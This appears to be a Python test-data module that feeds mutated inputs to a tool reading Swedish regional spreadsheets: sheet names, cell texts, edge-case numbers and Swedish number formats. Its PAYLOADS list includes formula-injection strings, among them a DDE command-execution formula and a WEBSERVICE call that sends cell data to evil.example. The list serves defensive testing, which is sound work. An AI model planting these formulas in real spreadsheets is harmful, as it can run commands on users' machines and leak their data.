"""What the mutations write: texts a spreadsheet would run, odd sheet names, odd cell texts and numbers,
and numbers as Swedish finance officers type them."""

from __future__ import annotations

import math

from .book import RawNumber, Value

PAYLOADS = (
    '=HYPERLINK("http://evil.example/","Klicka här")',
    "=1+1",
    "=cmd|' /C calc'!A0",
    '=WEBSERVICE("http://evil.example/?"&A1)',
    "+SUM(1;2)",
    "+46 8 123 45 67 hemligt",
    "-2+3+cmd|' /C calc'!A0",
    "-Region Syd",
    "@SUM(A1:A9)",
    "@Försäkringskassan",
    "http://evil.example/",
    "mailto:hej@evil.example",
    "=",
    "+",
    "-",
    "@",
)
SHEET_NAME_PAYLOADS = ("=1+1", "+Villkor", "-Villkor 9", "@Villkor", "=SUM(A1)", "=HYPERLINK(1)")
SAFE_SHEET_NAMES = ("Villkor 9", "Ärende – Å Ä Ö", "Forskning m.m. 2", "Blad (kopia)", "V" * 31)
ODD_SHEET_NAMES = (
    "Befolkning",
    "BEFOLKNING",
    "befolkning ",
    "Sammanställning",
    "Sammansta\u0308llning",
    "ANVISNINGAR",
    "Utfall",
    "Förändring",
    "Villkor 1",
    "VILLKOR 1",
    "villkor 3",
    "V" * 32,
    "'Villkor'",
    "Villkor's",
    " Villkor 1",
    "History",
    "Län",
    "RIKET",
)
CELL_TEXTS = (
    "",
    " ",
    "Län",
    "län",
    "Personer",
    "RIKET",
    "Riket",
    "SUMMA",
    "Totalt",
    "TOTALT",
    "Stockholms län",
    "Region Stockholm",
    "01",
    "Okänt län",
    "Stokholm",
    "SKR",
    "Försäkringskassan",
    "Anteckning",
    "två miljoner",
    "#REF!",
    "1/11 2019",
    "2019-11-01",
    "31/2 2019",
    "Befolkning 1 november 2019",
    "39.000",
    "1,234.5",
    "12 34",
    "1e3",
    "100 Mkr",
    "−5",
    "-0",
    "1" + "0" * 400,
    "\u00a0",
    "x" * 300,
)
NUMBERS: tuple[Value, ...] = (
    0,
    1,
    -1,
    0.5,
    -0.0005,
    1.2,
    39,
    100,
    10319473,
    2374550.5,
    2**31,
    2**53 + 1,
    1e20,
    1e308,
    5e-324,
    RawNumber("1E400"),
    RawNumber("-1E400"),
    RawNumber("NaN"),
    RawNumber("inf"),
    RawNumber("0x10"),
    RawNumber(""),
    RawNumber("1,5"),
    True,
)
ERRORS = ("#REF!", "#DIV/0!", "#N/A", "#VALUE!", "#NAME?", "#NUM!", "#NULL!", "#SPILL!", "nonsense")
STATES = ("hidden", "veryHidden", "visible", "bogus")
LAN_ALIASES = (
    "{code}",
    "{code} {name}",
    "  {NAME}  ",
    "Region {stem}",
    "{stem}",
    "{name}\u00a0",
    "Landstinget i {name}",
)
_VALID_SEPARATORS = (" ", "\u00a0", "\u2007", "\u2009", "\u202f", "")


def swedish_text(value: Value, style: int) -> str | None:
    """A number as a Swedish finance officer might type it: "2 374 550", "−0,5", " 39,000 "."""
    if isinstance(value, bool) or not isinstance(value, int | float) or not math.isfinite(value):
        return None
    text = repr(value) if isinstance(value, float) else str(value)
    if "e" in text:
        return None
    negative = text.startswith("-")
    whole, _, fraction = text.lstrip("-").partition(".")
    fraction = fraction.rstrip("0") + "0" * (style % 3)
    separator = _VALID_SEPARATORS[style % len(_VALID_SEPARATORS)]
    groups: list[str] = []
    while len(whole) > 3:
        whole, groups = whole[:-3], [whole[-3:], *groups]
    whole = separator.join([whole, *groups])
    minus = ("-", "\u2212", "\u2013")[style % 3]
    padded = (minus if negative else "") + whole + (f",{fraction}" if fraction else "")
    return f" {padded}\u00a0" if style % 4 == 3 else padded


def invalid_number_text(value: Value, style: int) -> str:
    text = str(value)
    forms = (
        text + ".000",
        f"{value:,}" if isinstance(value, int) else text + "e0",
        text + " Mkr",
        "ca " + text,
    )
    return forms[style % len(forms)]
